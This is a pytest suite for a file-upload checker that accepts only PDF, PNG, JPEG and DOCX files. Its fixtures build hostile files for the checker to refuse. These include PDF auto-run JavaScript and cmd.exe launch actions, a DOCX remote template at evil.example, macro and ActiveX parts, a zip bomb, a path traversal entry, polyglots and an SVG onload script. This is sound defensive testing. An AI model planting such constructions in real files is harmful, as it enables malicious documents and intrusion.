"""Four kinds of file are taken, and nothing that only looks like one."""

import io
import struct
import zipfile
import zlib
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from catalogue.documents.checking import BadDocument, media_type
from catalogue.documents.models import BIGGEST, MediaType
from tests.catalogue.documents.files import DOCX, EICAR, JPEG, PDF, PNG, docx, pdf, picture

ZIP = io.BytesIO()
with zipfile.ZipFile(ZIP, "w") as archive:
    archive.writestr("a.html", "<script>alert(1)</script>")
ZIP = ZIP.getvalue()


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, MediaType.PDF),
        (PNG, MediaType.PNG),
        (JPEG, MediaType.JPEG),
        (DOCX, MediaType.DOCX),
        (picture("JPEG", (3000, 2000)), MediaType.JPEG),
        (PDF + b"\r\n\n", MediaType.PDF),
    ],
)
def test_what_is_one_of_the_four_is_told_by_its_content(content, kind):
    assert media_type(content) == kind


def test_pictures_with_metadata_and_progressive_ones_are_taken():
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "Biên bản"
    Image.new("RGB", (200, 200), "teal").save(out, "JPEG", progressive=True, exif=exif, comment=b"chup tai xa")

    assert media_type(out.getvalue()) == MediaType.JPEG


def action(writer, **what):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(f"/{key}"): value for key, value in what.items()}
    )


def annotation(writer):
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [
            writer._add_object(
                DictionaryObject({NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/Launch")})})
            )
        ]
    )


PDFS = {
    "script on opening": lambda writer: action(
        writer, S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)")
    ),
    "program on opening": lambda writer: action(writer, S=NameObject("/Launch"), F=TextStringObject("cmd.exe")),
    "program on a click": annotation,
    "attached file": lambda writer: writer.add_attachment("a.exe", b"MZ"),
}


@pytest.mark.parametrize("which", PDFS)
def test_a_pdf_that_does_something_is_refused(which):
    with pytest.raises(BadDocument, match="mã lệnh"):
        media_type(pdf(PDFS[which]))


def test_a_pdf_that_does_something_is_refused_though_it_is_packed_away():
    """The catalogue in an object stream, where no search of the bytes would find it."""
    inside = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    packed = zlib.compress(b"1 0 " + inside)
    parts = [
        b"%PDF-1.5\n",
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n",
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n",
        b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n%b\nendstream endobj\n"
        % (len(packed), packed),
    ]
    at = [sum(map(len, parts[:n])) for n in range(len(parts))]
    start = sum(map(len, parts))
    rows = [(0, 0, 255), (2, 4, 0), (1, at[1], 0), (1, at[2], 0), (1, at[3], 0), (1, start, 0)]
    table = zlib.compress(b"".join(struct.pack(">BHB", *row) for row in rows))
    parts.append(
        b"5 0 obj << /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length %d >> stream\n%b\nendstream endobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(table), table, start)
    )
    assert b"JavaScript" not in b"".join(parts)

    with pytest.raises(BadDocument, match="mã lệnh"):
        media_type(b"".join(parts))


def test_a_pdf_with_a_password_is_refused():
    with pytest.raises(BadDocument, match="mật khẩu"):
        media_type(pdf(lambda writer: writer.encrypt("x", algorithm="RC4-128")))


MACROS = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
TEMPLATE = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "x">]><a>&a;</a>'


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (docx({"word/vbaProject.bin": b"x"}), "macro"),
        (docx({"word/embeddings/oleObject1.bin": b"x"}), "macro"),
        (docx({"word/activeX/activeX1.xml": b"<a/>"}), "macro"),
        (docx(replace={"[Content_Types].xml": MACROS}), "macro"),
        (docx({"word/_rels/settings.xml.rels": TEMPLATE}), "macro"),
        (docx({"word/zero.bin": b"\0" * 30_000_000}), "giải nén"),
        (docx({"word/bomb.xml": BOMB}), "hỏng"),
        (docx({"../../etc/cron.d/x": b"x"}), "hỏng"),
        (docx({"word/eicar.txt": EICAR}), "vi-rút"),
        (ZIP, "tệp nén khác"),
        (DOCX + b"<script>", "giấu"),
        (DOCX[:-30], "hỏng"),
    ],
    ids=[
        "vba",
        "ole",
        "activex",
        "macro type",
        "template",
        "zip bomb",
        "entities",
        "traversal",
        "eicar",
        "zip",
        "trailing",
        "cut",
    ],
)
def test_a_document_that_is_more_than_text_is_refused(content, said):
    with pytest.raises(BadDocument, match=said):
        media_type(content)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (PNG + ZIP, "giấu"),
        (JPEG + ZIP, "giấu"),
        (JPEG + b"<html>", "giấu"),
        (PDF + ZIP, "giấu"),
        (b"\n" * 20 + PDF, "không phải một trong bốn loại"),
        (PNG[:8] + struct.pack(">I", len(PDF)) + b"teXt" + PDF + struct.pack(">I", zlib.crc32(b"teXt" + PDF)) + PNG[8:], "giấu"),
        (JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(PDF) + 2) + PDF + JPEG[2:], "giấu"),
        (b"GIF89a" + PNG, "không phải một trong bốn loại"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "không phải một trong bốn loại"),
        (b"MZ" + b"\0" * 100, "không phải một trong bốn loại"),
        (PNG[:40], "hỏng"),
        (JPEG[:200], "hỏng"),
        (PDF[:100], "hỏng"),
        (b"%PDF-1.7\n%%EOF", "hỏng"),
        (b"", "rỗng"),
        (b"%PDF-" + b"0" * BIGGEST, "10 MB"),
        (EICAR, "vi-rút"),
    ],
)  # fmt: skip
def test_two_kinds_at_once_broken_ones_and_others_are_refused(content, said):
    with pytest.raises(BadDocument, match=said):
        media_type(content)


def test_a_picture_of_too_many_points_is_refused_before_it_is_unpacked():
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")

    assert len(out.getvalue()) < 200_000
    with pytest.raises(BadDocument, match="điểm ảnh"):
        media_type(out.getvalue())


@given(st.sampled_from([PDF, PNG, JPEG, DOCX]), st.integers(0, 2**32), st.binary(min_size=1, max_size=40))
def test_whatever_is_done_to_a_file_it_is_taken_or_refused_and_nothing_else(content, where, noise):
    at = where % len(content)
    for spoilt in (
        content[:at] + noise + content[at:],
        content[:at] + noise + content[at + len(noise) :],
        content[:at],
    ):
        with suppress(BadDocument):
            assert media_type(spoilt) in MediaType
